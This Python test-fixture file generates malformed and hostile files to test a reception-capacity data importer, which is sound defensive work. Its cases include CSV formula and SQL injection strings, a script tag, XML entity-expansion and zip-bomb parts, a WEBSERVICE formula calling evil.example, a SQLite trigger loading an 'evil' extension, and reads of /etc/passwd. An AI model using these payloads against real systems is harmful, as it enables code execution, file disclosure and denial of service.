# ruff: noqa: E501 - a case a line reads better than a case in three
"""Traps as files, one a line: how it is written, and what its reader must say of it."""

import json
import math
import random
import sqlite3
import struct
import warnings
import zipfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

Write = Callable[[Path], object]
HEAD = "territory_id,period,measure_id,group_id,value\n"
GOOD = "ITC1,2024,reception_places,all,1\n"
CAPACITY, PLACES = "capacity", "reception"


@dataclass(frozen=True)
class Case:
    """A trap: its name, its file's name, how it is written, words of the answer, good lines."""

    name: str
    file: str
    write: Write
    words: str = ""
    good: int | None = None
    table: str = CAPACITY
    settings: dict[str, Any] = field(default_factory=dict)


def data(content: bytes | str) -> Write:
    """Writes these bytes."""
    told = content.encode("utf-8") if isinstance(content, str) else content
    return lambda file: file.write_bytes(told)


def streamed(block: bytes, times: int, head: bytes = b"", tail: bytes = b"") -> Write:
    """Writes a block over and over, so that no test holds it whole."""

    def write(file: Path) -> None:
        with file.open("wb") as handle:
            handle.write(head)
            for _ in range(times):
                handle.write(block)
            handle.write(tail)

    return write


def value(text: str) -> Write:
    """A good line whose figure is this text, and one that is good."""
    return data(HEAD + f'ITC1,2023,reception_places,all,"{text}"\n' + GOOD)


def period(text: str) -> Write:
    return data(HEAD + f'ITC1,"{text}",reception_places,all,1\n' + GOOD)


def geojson(*geometries: Any, **more: Any) -> Write:
    """A feature for each geometry, each with a name and places."""
    features = [
        {"type": "Feature", "properties": {"name": f"p{i}", "places": 3}, "geometry": geometry}
        for i, geometry in enumerate(geometries)
    ]
    return data(json.dumps({"type": "FeatureCollection", "features": features, **more}))


def point(x: Any, y: Any) -> dict[str, Any]:
    return {"type": "Point", "coordinates": [x, y]}


def star(corners: int) -> dict[str, Any]:
    """A polygon that crosses itself at every edge."""
    chance = random.Random(corners)
    ring = [[12 + chance.random(), 42 + chance.random()] for _ in range(corners)]
    return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}


def circle(corners: int) -> dict[str, Any]:
    turns = [2 * math.pi * i / corners for i in range(corners)]
    ring = [[12 + math.cos(a), 42 + math.sin(a)] for a in turns]
    return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}


def nested(depth: int) -> dict[str, Any]:
    found: dict[str, Any] = point(12.5, 41.9)
    for _ in range(depth):
        found = {"type": "GeometryCollection", "geometries": [found]}
    return found


def workbook(*rows: list[Any], title: str = "Sheet") -> Write:
    """A workbook of these rows below the names of the columns."""

    def write(file: Path) -> None:
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.title = title
        sheet.append(HEAD.strip().split(","))
        for row in rows:
            sheet.append(row)
        book.save(file)

    return write


def part(name: str, content: bytes, times: int = 1) -> Write:
    """A workbook with one more part."""

    def write(file: Path) -> None:
        workbook(["ITC1", 2024, "reception_places", "all", 1])(file)
        with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
            for i in range(times):
                archive.writestr(name.format(i=i), content)

    return write


def sheet(before: bytes, after: bytes) -> Write:
    """A workbook whose sheet has something replaced in its XML."""

    def write(file: Path) -> None:
        workbook(["ITC1", 2024, "reception_places", "all", 1])(file)
        with zipfile.ZipFile(file) as archive:
            parts = {each: archive.read(each) for each in archive.namelist()}
        found = "xl/worksheets/sheet1.xml"
        assert before in parts[found]
        parts[found] = parts[found].replace(before, after, 1)
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            for each, content in parts.items():
                archive.writestr(each, content)

    return write


def twice(name: str) -> Write:
    """A workbook that has a part two times, as programs that check nothing would write it."""

    def write(file: Path) -> None:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)
            part(name, b"<workbook/>")(file)

    return write


def lying(name: bytes, packed_bytes: int) -> Write:
    """A workbook whose directory says that a part takes so many bytes in the file."""

    def write(file: Path) -> None:
        workbook(["ITC1", 2024, "reception_places", "all", 1])(file)
        held = bytearray(file.read_bytes())
        # The name stands in the directory 46 bytes behind the start of its entry.
        entry = held.rindex(name) - 46
        assert held[entry : entry + 4] == b"PK\x01\x02"
        held[entry + 20 : entry + 24] = packed_bytes.to_bytes(4, "little")
        file.write_bytes(held)

    return write


def sqlite(*statements: str) -> Write:
    def write(file: Path) -> None:
        with closing(sqlite3.connect(file)) as con:
            for each in statements:
                con.execute(each)
            con.commit()

    return write


def parquet(columns: Any, geo: Any = None, schema: pa.Schema | None = None) -> Write:
    def write(file: Path) -> None:
        table = pa.table(columns, schema=schema)
        if geo is not None:
            told = geo if isinstance(geo, bytes) else json.dumps(geo).encode()
            table = table.replace_schema_metadata({b"geo": told})
        pq.write_table(table, file)

    return write


def polygons(corners: int) -> Write:
    """A polygon of so many corners, back and forth: small while it is packed."""

    def write(file: Path) -> None:
        there = struct.pack("<4d", 12.0, 42.0, 12.5, 42.5) * (corners // 2)
        ring = struct.pack("<BIII", 1, 3, 1, corners + 1) + there + there[:16]
        parquet({"name": ["a"], "g": [ring]}, GEO)(file)

    return write


def spoilt(write: Write, at: float, noise: bytes = b"\xff" * 64) -> Write:
    """The same file with noise at a share of its length."""

    def damaged(file: Path) -> None:
        write(file)
        held = file.read_bytes()
        place = int(len(held) * at)
        file.write_bytes(held[:place] + noise + held[place + len(noise) :])

    return damaged


def cut(write: Write, at: float) -> Write:
    def short(file: Path) -> None:
        write(file)
        held = file.read_bytes()
        file.write_bytes(held[: int(len(held) * at)])

    return short


COLUMNS = {
    "territory_id": ["ITC1"], "period": ["2024"], "measure_id": ["reception_places"],
    "group_id": ["all"], "value": [1.0],
}  # fmt: skip
GEO = {"primary_column": "g", "columns": {"g": {"encoding": "WKB", "crs": None}}}
PLAIN = workbook(["ITC1", 2024, "reception_places", "all", 1])
GPKG = sqlite("create table t (name text, places integer)", "insert into t values ('a', 1)")

TEXTS = (
    Case("a line of 100 MB", "x.csv", streamed(b"a" * 1_000_000, 100, b"a,b\n"), "at most 50 MB"),
    Case("a line of 40 MB", "x.csv", streamed(b"a" * 1_000_000, 40, b"a,b\n"), "signs"),
    Case("5,000 columns", "x.csv", data("a," * 5_000 + "\n1\n"), "more than 500 columns"),
    Case("quotes that never end", "x.csv", data(HEAD + '"' * 50_001 + "\n" + GOOD), "quotes", 1),
    Case("one quote too many", "x.csv", data(HEAD + 'ITC1,"2024,a,b,1\n' + GOOD), "quotes", 1),
    Case("a text of quotes", "x.csv", data('"' * 200_000), "", 0),
    Case("a field of many lines", "x.csv", data(HEAD + '"' + "\n" * 20_000 + '"\n' + GOOD), "", 1),
    Case("separators alone", "x.csv", data("," * 400 + "\n"), "", 0),
    Case("line ends alone", "x.csv", streamed(b"\r\n", 50_000), "", 0),
    Case("lines without end", "x.csv", streamed(b"1\n" * 1000, 301, b"value\n"), "300,000 lines"),
    Case("a head alone", "x.csv", data(HEAD), "", 0),
    Case("spaces alone", "x.csv", data(" " * 10_000), "", 0),
    Case("NUL inside", "x.csv", data(HEAD + GOOD + "IT\0C1\n"), "NUL"),
    Case("UTF-16 without a mark", "x.csv", data((HEAD + GOOD).encode("utf-16-le"))),
    Case("UTF-16 with a mark", "x.csv", data((HEAD + GOOD).encode("utf-16")), "", 1),
    Case("UTF-32", "x.csv", data((HEAD + GOOD).encode("utf-32")), ""),
    Case("UTF-8 with a mark twice", "x.csv", data(b"\xef\xbb\xbf" * 2 + (HEAD + GOOD).encode()), ""),
    Case("two encodings", "x.csv", data((HEAD + GOOD).encode() + b"M\xfcnchen\xff,\xc3\xa9\n"), ""),
    Case("UTF-8 cut in a sign", "x.csv", data((HEAD + GOOD).encode() + "é".encode()[:1]), ""),
    Case("overlong UTF-8", "x.csv", data((HEAD + GOOD).encode() + b"\xc0\xaf,1\n"), ""),
    Case("control characters", "x.csv", data(HEAD + "\x01\x02\x1b[31m,2024,a,b,1\n" + GOOD), "", 1),
    Case("right to left", "x.csv", data(HEAD + "\u202eITC1\u202c,2024,a,b,1\n" + GOOD), "", 1),
    Case("the same name twice", "x.csv", data("value," + HEAD + "2," + GOOD), ""),
    Case("names of 5,000 signs", "x.csv", data("x" * 5_000 + "," + HEAD + "1," + GOOD), "", 1),
    Case("a formula for a name", "x.csv", data("=cmd|' /C calc'!A0," + HEAD + "1," + GOOD), "", 1),
    Case("a script for a name", "x.csv", data("<script>alert(1)</script>," + HEAD + "1," + GOOD)),
    Case("SQL for a code", "x.csv", data(HEAD + "'; drop table figure; --,2024,a,b,1\n" + GOOD), "", 1),
    Case("a pattern that never ends", "x.csv", data(HEAD + "(" * 9_999 + ",2024,a,b,1\n" + GOOD), "", 1),
    Case("separators that differ", "x.csv", data("a;b,c\td\n1;2,3\t4\n" * 50), ""),
    Case("HTML named CSV", "x.csv", data("<html><table><tr><td>1</td></tr></table></html>"), ""),
    Case("XML that expands", "x.csv", data("<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"), ""),
    Case("JSON named CSV", "x.csv", data('{"a": [1, 2, {"b": null}]}'), ""),
)  # fmt: skip
_FIGURES = (
    "NaN", "nan", "inf", "-inf", "Infinity", "1e999", "-1", "1e-400", "9" * 400, "50001e99900000", "1e-99999999", "9e9999%", "0x1F", "1_000",
    "\u0661\u0662", "\uff11", "1\u00a0000", "--1", "+1", "1,2,3.4", "=1+1", "@SUM(1)", "1/0",
    "true", "#REF!", "#DIV/0!", "null", "½", "²",
)  # fmt: skip
FIGURES = tuple(Case(f"a figure {text[:12]!r}", "x.csv", value(text)) for text in _FIGURES)
_PERIODS = (
    "9999-12-31", "0000-00-00", "2024-02-30", "2024-13-01", "-2024", "99999", "1066-10-14",
    "03/04/2025", "2024-W60", "2024-Q9", "1e3", "tomorrow", "45292", "2024-01-01T25:61:61Z",
)  # fmt: skip
FIGURES += (
    Case("a place a power away", "x.csv", data(
        "name;places;Ostwert;Nordwert\nHaus Nord;40;50001e99900000;5690000\n"
        "Haus Ost;30;510000;5690000\n"), "", None, "services"),
)  # fmt: skip
PERIODS = tuple(Case(f"a period {text!r}", "x.csv", period(text)) for text in _PERIODS)
LAYERS = (
    Case("a star of 3,000 corners", "x.geojson", geojson(star(3_000)), "", None, PLACES),
    Case("a ring of 100,000 corners", "x.geojson", geojson(circle(100_000)), "", None, PLACES),
    Case("a ring of 400,000 corners", "x.geojson", streamed(
        b"[12.1,42.1],[12.2,42.2]," * 1_000, 200,
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":"p",'
        b'"places":3},"geometry":{"type":"Polygon","coordinates":[[', b"[12.1,42.1]]]}}]}"),
        "", None, PLACES),
    Case("a bow", "x.geojson", geojson(star(5), point(12.5, 41.9)), "", None, PLACES),
    Case("a ring of two corners", "x.geojson",
         geojson({"type": "Polygon", "coordinates": [[[1, 2], [3, 4]]]}), "", None, PLACES),
    Case("a ring that is open", "x.geojson",
         geojson({"type": "Polygon", "coordinates": [[[1, 2], [3, 4], [5, 7]]]}), "", None, PLACES),
    Case("texts for coordinates", "x.geojson", geojson(point("12", "41")), "", None, PLACES),
    Case("NaN for coordinates", "x.geojson", geojson(point(math.nan, 1)), "", None, PLACES),
    Case("infinite coordinates", "x.geojson", geojson(point(math.inf, -math.inf)), "", None, PLACES),
    Case("coordinates of the moon", "x.geojson", geojson(point(1e300, -1e300)), "", None, PLACES),
    Case("metres for degrees", "x.geojson", geojson(point(4321000, 3210000)), "", None, PLACES),
    Case("latitude first", "x.geojson", geojson(point(41.9, 12.5)), "", None, PLACES),
    Case("a point of five numbers", "x.geojson",
         geojson({"type": "Point", "coordinates": [1, 2, 3, 4, 5]}), "", None, PLACES),
    Case("coordinates nested without end", "x.geojson",
         geojson({"type": "Polygon", "coordinates": json.loads("[" * 400 + "]" * 400)}), "", None,
         PLACES),
    Case("collections in collections", "x.geojson", geojson(nested(300)), "", None, PLACES),
    Case("a reference system there is not", "x.geojson", geojson(point(1, 2), crs={
        "type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::999999"}}), "", None, PLACES),
    Case("a reference system that is a file", "x.geojson", geojson(point(1, 2), crs={
        "type": "link", "properties": {"href": "file:///etc/passwd"}}), "", None, PLACES),
    Case("a reference system that is a number", "x.geojson",
         geojson(point(1, 2), crs=7), "", None, PLACES),
    Case("features that are none", "x.geojson", data('{"features": [1, null, "a", [], {}]}'), "", 0,
         PLACES),
    Case("features that are a text", "x.geojson", data('{"features": "abc"}'), "no list", 0, PLACES),
    Case("properties nested without end", "x.geojson", data(
        '{"features": [{"properties": ' + '{"a":' * 5_000 + "1" + "}" * 5_000 + "}]}"), "", None,
        PLACES),
    Case("a key twice", "x.geojson", data(
        '{"features": [], "features": [{"properties": {"name": "a", "name": "b"}}]}'), "", None,
        PLACES),
    Case("600 properties", "x.geojson", data(json.dumps({"features": [
        {"properties": {f"a{i}": i for i in range(600)}}]})), "more than 500 columns", 0, PLACES),
    Case("GeoJSON in Latin-1", "x.geojson", data('{"features": ["é"]}'.encode("latin-1")),
         "not UTF-8", 0, PLACES),
    Case("GeoJSON cut short", "x.geojson", cut(geojson(point(1, 2)), 0.7), "no JSON", 0, PLACES),
)  # fmt: skip
WORKBOOKS = (
    Case("a workbook cut short", "x.xlsx", cut(PLAIN, 0.6), "damaged", 0),
    Case("a workbook with noise", "x.xlsx", spoilt(PLAIN, 0.3), "", None),
    Case("a bomb in a part", "x.xlsx", part("xl/a.xml", b" " * 30_000_000), "unpacks to", 0),
    Case("many parts", "x.xlsx", part("xl/{i}.xml", b"", 2_100), "parts", 0),
    Case("a good workbook", "x.xlsx", PLAIN, "", 1),
    Case("a part twice", "x.xlsx", twice("xl/workbook.xml"), "a part twice", 0),
    Case("a part that is said to be huge", "x.xlsx", lying(b"xl/styles.xml", 1_835_083_346),
         "larger than it is", 0),
    Case("an entity in a sheet", "x.xlsx", sheet(b"<worksheet",
         b'<!DOCTYPE a [<!ENTITY b "c">]><worksheet'), "document type", 0),
    Case("laughs in a sheet", "x.xlsx", sheet(b"<worksheet", b"<!DOCTYPE a [" + b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 9)
    ) + b"]><worksheet"), "document type", 0),
    Case("a sheet that is no XML", "x.xlsx", sheet(b"<sheetData>", b"<sheetData"), "", 0),
    Case("rows numbered backwards", "x.xlsx", sheet(b'<row r="2"', b'<row r="1"'), "", None),
    Case("a row of no number", "x.xlsx", sheet(b'<row r="2"', b'<row r="x"'), "", None),
    Case("a row far below", "x.xlsx", sheet(b'<row r="2"', b'<row r="99999999999"'), "", None),
    Case("a cell with no place", "x.xlsx", sheet(b'r="A2"', b'r="!!"'), "", None),
    Case("a formula never worked out", "x.xlsx",
         workbook(["ITC1", 2024, "reception_places", "all", "=1+1"]), "", 0),
    Case("a formula that asks the network", "x.xlsx",
         workbook(["ITC1", 2024, "reception_places", "all", '=WEBSERVICE("http://evil.example")']),
         "", 0),
    Case("a figure that is a date", "x.xlsx",
         workbook(["ITC1", 2024, "reception_places", "all", date(9999, 12, 31)]), "", 0),
    Case("a text of 30,000 signs", "x.xlsx",
         workbook(["x" * 30_000, 2024, "reception_places", "all", 1]), "", 0),
    Case("a sheet named as a script", "x.xlsx", workbook(
        ["ITC1", 2024, "reception_places", "all", 1], title="<img src=x>"), "", 1),
)  # fmt: skip
DATABASES = (
    Case("SQLite cut short", "x.gpkg", cut(GPKG, 0.5), "", 0, PLACES),
    Case("SQLite with noise", "x.gpkg", spoilt(GPKG, 0.1), "", 0, PLACES),
    Case("no GeoPackage", "x.gpkg", GPKG, "", None, PLACES),
    Case("a trigger", "x.gpkg", sqlite("create table t (name text)",
         "create trigger r after insert on t begin select load_extension('evil'); end"), "", None,
         PLACES),
    Case("a virtual table", "x.gpkg", sqlite("create virtual table t using fts5(name)"), "", None,
         PLACES),
    Case("a table named as SQL", "x.gpkg", sqlite('create table "t; drop table x; --" (name text)'),
         "", None, PLACES),
    Case("a view of a file", "x.gpkg", sqlite("create view t as select readfile('/etc/passwd') as a"),
         "no plain table", 0, PLACES),
)  # fmt: skip
COLUMNAR = (
    Case("Parquet cut short", "x.parquet", cut(parquet(COLUMNS), 0.8), "cannot be read", 0),
    Case("Parquet with noise inside", "x.parquet", spoilt(parquet(COLUMNS), 0.1, b"\xff" * 40)),
    Case("Parquet with noise at its end", "x.parquet", spoilt(parquet(COLUMNS), 0.9, b"\xff" * 20)),
    Case("Parquet of no rows", "x.parquet", parquet({k: v[:0] for k, v in COLUMNS.items()}), "", 0),
    Case("Parquet of 600 columns", "x.parquet", parquet({f"a{i}": [i] for i in range(600)}),
         "more than 500 columns", 0),
    Case("Parquet of a million rows", "x.parquet", parquet({"value": pa.nulls(1_000_000)}),
         "more than 300,000 rows", 0),
    Case("a column twice", "x.parquet", parquet([pa.array(["a"]), pa.array(["b"])],
         schema=pa.schema([("name", pa.string()), ("name", pa.string())])), "", None, PLACES),
    Case("lists for figures", "x.parquet", parquet(COLUMNS | {"value": [[1, 2]]}), "", 0),
    Case("bytes for names", "x.parquet", parquet(COLUMNS | {"territory_id": [b"\xff\xfe"]}), "", 0),
    Case("NaN in Parquet", "x.parquet", parquet(COLUMNS | {"value": [math.nan]}), "", None),
    Case("infinity in Parquet", "x.parquet", parquet(COLUMNS | {"value": [math.inf]}), "", 0),
    Case("a geometry that is none", "x.parquet", parquet({"name": ["a"], "g": [b"\x01\x02"]}, GEO),
         "", None, PLACES),
    Case("a geometry of four billion points", "x.parquet", parquet(
        {"name": ["a"], "g": [b"\x01\x02\x00\x00\x00\xff\xff\xff\xff"]}, GEO), "", None, PLACES),
    Case("a polygon of ten million corners", "x.parquet", polygons(10_000_000), "", 1, PLACES),
    Case("geometries in geometries", "x.parquet", parquet(
        {"name": ["a"], "g": [b"\x01\x07\x00\x00\x00\x01\x00\x00\x00" * 5_000]}, GEO), "", None,
        PLACES),
    Case("numbers for geometries", "x.parquet", parquet({"name": ["a"], "g": [7]}, GEO), "", None,
         PLACES),
    Case("notes that are no JSON", "x.parquet", parquet({"name": ["a"]}, b"\xff{"), "", None, PLACES),
    Case("notes that name no column", "x.parquet", parquet({"name": ["a"]}, GEO), "", None, PLACES),
)  # fmt: skip
CASES = (*TEXTS, *FIGURES, *PERIODS, *LAYERS, *WORKBOOKS, *DATABASES, *COLUMNAR)
